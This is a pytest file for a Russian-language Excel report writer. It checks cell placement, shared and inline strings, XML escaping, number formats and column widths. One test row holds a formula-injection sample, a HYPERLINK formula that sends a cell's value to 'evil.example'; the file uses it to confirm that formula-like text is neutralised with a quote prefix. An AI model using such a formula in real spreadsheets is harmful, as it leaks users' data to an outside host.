"""The workbook's sheet data written straight from values (`results.sheetdata`): cells without references, texts as
shared strings (or inline), numbers without `t="n"`, «Показатели по ДОУ» from the stored values with a plan per column.

Each sheet is written the way the справка writes it (`excel._sheet` into a spool, `excel._saved`) and read back with
openpyxl: every value in its place (an empty cell between two others keeps their columns apart), every date and share in
its number format, a would-be formula text and `quotePrefix`, the widths; with the shared string table and without
(the regional справка's path, inline strings as openpyxl writes them).
"""

from __future__ import annotations

import io
import tempfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from dqflow.present import guard
from dqflow.results import excel, sheetdata

NOW = datetime(2021, 12, 3, 5, 0, tzinfo=UTC)
HEADER = ["ДОУ", "Название", "Число", "Срок", "Доля", "Заметка", "Флаг"]
ROWS = [
    ["1", "МАДОУ № 1 «Солнышко»", 3, datetime(2021, 11, 30, 23, 59), 0.25, "текст", True],
    ["2", None, 0, None, None, None, None],  # empty cells between and after: the later cells keep their columns
    ["3", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", -7, datetime(2021, 12, 1, 9, 0), 1.0, " с пробелами ", False],
    ["4", "#N/A", 2.5, None, 0, "a & b < c > d\r\nвторая строка", None],
    ["5", "", None, None, None, "@SUM(1)", None],
    ["6", "  пробелы по краям ", 1, None, None, None, None],  # a shared text's spaces kept (xml:space)
    ["1", "МАДОУ № 1 «Солнышко»", 3, datetime(2021, 11, 30, 23, 59), 0.25, "текст", True],  # remembered cells again
]
FORMATS = {4: excel.DATETIME, 5: excel.PERCENT}


def written(shared: bool, rows=ROWS, plan=None, header=HEADER) -> openpyxl.Workbook:
    with tempfile.TemporaryDirectory() as folder:
        book = Workbook(write_only=True)
        spool = excel._Rows(Path(folder), sheetdata.Strings() if shared else None)
        excel._sheet(book, "Лист", header, iter(rows), FORMATS, (6,), spool=spool, plan=plan)
        data = excel._saved(book, spool, NOW)
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("shared", [True, False])
def test_every_value_reads_back_in_its_place_and_format(shared: bool):
    sheet = written(shared)["Лист"]
    assert [c.value for c in sheet[1]] == HEADER and sheet.max_row == len(ROWS) + 1
    for number, values in enumerate(ROWS, 2):
        cells = sheet[number]
        read = [cells[n].value for n in range(len(HEADER))]
        expected = [None if v == "" else v for v in values]  # an empty text is an empty cell, as openpyxl writes it
        assert read == expected, number
        for cell, value in zip(cells, values, strict=False):
            if isinstance(value, str) and value:
                assert cell.data_type == "s" and bool(cell.quotePrefix) == guard.formula_like(value), (number, cell.value)
            if isinstance(value, datetime):
                assert cell.number_format == excel.DATETIME
            elif cell.column == 5 and value is not None:  # a share, whatever its type
                assert cell.number_format == excel.PERCENT
            elif value is not None:
                assert cell.number_format == "General", (number, cell.coordinate)
    assert sheet.column_dimensions["B"].width == len(ROWS[2][1]) + 2  # the widest value's width
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:G{len(ROWS) + 1}"


def test_texts_are_shared_once_but_free_text_stays_inline():
    with tempfile.TemporaryDirectory() as folder:
        book = Workbook(write_only=True)
        spool = excel._Rows(Path(folder), sheetdata.Strings())
        excel._sheet(book, "Лист", HEADER, iter(ROWS), FORMATS, (6,), spool=spool)
        data = excel._saved(book, spool, NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        table = archive.read("xl/sharedStrings.xml").decode("utf-8")
    rows = sheet[sheet.index("<sheetData>"):]
    assert ' r="B2"' not in rows and 't="n"' not in rows  # no cell reference, no default type below the header
    assert table.count("МАДОУ № 1 «Солнышко»") == 1 and rows.count('t="s"') >= 10  # the name once, its cells by index
    assert "текст" not in table and "текст" in rows  # column 6 is free text: inline, not in the table
    assert '<si><t xml:space="preserve">  пробелы по краям </t></si>' in table  # Excel keeps the spaces (openpyxl would anyway)


def test_the_plan_makes_the_same_sheet_as_the_values_it_stands_for():
    """`sheetdata.Plain`: each stored value makes its cells (`plan`), remembered under it — the same workbook as the
    converted rows written cell by cell (`Cells.row`)."""
    titles = {"i1": ("i1", "Показатель 1", "Область 1"), "i2": ("i2", "=Показатель 2", "Область 1")}
    header = ["ДОУ", "Название", "Показатель", "Название показателя", "Область", "Уровень"]
    plan = [lambda v: (v,), lambda v: (v,), lambda v: (None, None, None) if v is None else titles[v],
            lambda v: (None if v is None else int(v),)]
    stored = [("1", "А", "i1", "2"), ("1", "А", "i2", None), ("2", "Б", "i1", "3"), ("2", "Б", "i2", "1"), ("3", "В", None, "4")]
    converted = [[v for ask, value in zip(plan, row, strict=True) for v in ask(value)] for row in stored]

    def cells(book: openpyxl.Workbook) -> list[tuple]:
        return [(c.coordinate, c.value, c.data_type, c.number_format, bool(c.quotePrefix)) for row in book["Лист"].iter_rows() for c in row]
    assert cells(written(True, stored, plan, header)) == cells(written(True, converted, None, header))
    assert [r[5] for r in written(True, stored, plan, header)["Лист"].iter_rows(min_row=2, values_only=True)] == [2, None, 3, 1, 4]
    with pytest.raises(ValueError):
        written(True, [("1", "А", "i1")], plan, header)  # a row shorter than the plan


def test_a_simple_sheet_is_the_same_sheet_remembered_whole():
    """`_sheet(simple=True)` (texts, ints, datetimes, None): a row of remembered values is one join — the same cells as
    the sheet written cell by cell."""
    rows = [[f"{n % 3}", None if n % 4 == 0 else f"МАДОУ № {n % 3}", n % 2, datetime(2021, 11, 30, 23, n % 2), None,
             "да" if n % 2 else "нет", None] for n in range(12)]

    def cells(simple: bool) -> list[tuple]:
        with tempfile.TemporaryDirectory() as folder:
            book = Workbook(write_only=True)
            spool = excel._Rows(Path(folder), sheetdata.Strings())
            excel._sheet(book, "Лист", HEADER, iter(rows), FORMATS, (6,), spool=spool, simple=simple)
            read = openpyxl.load_workbook(io.BytesIO(excel._saved(book, spool, NOW)))["Лист"]
        return [(c.coordinate, c.value, c.number_format) for row in read.iter_rows() for c in row]
    found = cells(True)
    assert found == cells(False) and [v for _, v, _ in found[7:14]] == [r if r != "" else None for r in rows[0]]


def test_a_text_shared_in_one_column_stays_inline_in_a_free_text_one_and_escaped_in_both():
    """A text's shared cell is remembered for the whole workbook (`Strings.cells`), but a free-text column keeps its text
    inline even when another column shared it; `<`, `&`, `>` are escaped in the table and inline (and read back)."""
    text = "ДОУ <«Ромашка»> & Co"
    rows = [["1", text, 1, None, None, None, None], ["2", "МБДОУ № 2", 2, None, None, text, None]]
    with tempfile.TemporaryDirectory() as folder:
        book = Workbook(write_only=True)
        spool = excel._Rows(Path(folder), sheetdata.Strings())
        excel._sheet(book, "Лист", HEADER, iter(rows), FORMATS, (6,), spool=spool, simple=True)
        data = excel._saved(book, spool, NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        table = archive.read("xl/sharedStrings.xml").decode("utf-8")
    escaped = "ДОУ &lt;«Ромашка»&gt; &amp; Co"
    assert f"<si><t>{escaped}</t></si>" in table and f'<c t="inlineStr"><is><t>{escaped}</t></is></c>' in sheet
    read = openpyxl.load_workbook(io.BytesIO(data))["Лист"]
    assert read["B2"].value == text and read["F3"].value == text


@pytest.mark.parametrize("text", ["a < b", "a & b", "a > b", "a\rb"])
def test_a_text_with_one_character_to_escape_reads_back(text: str):
    """Each of `&`, `<`, `>` and a carriage return alone makes a text escaped (`sheetdata.escaped`), shared and inline."""
    rows = [["1", text, 1, None, None, text, None]]
    for shared in (True, False):
        assert written(shared, rows)["Лист"]["B2"].value == text and written(shared, rows)["Лист"]["F2"].value == text
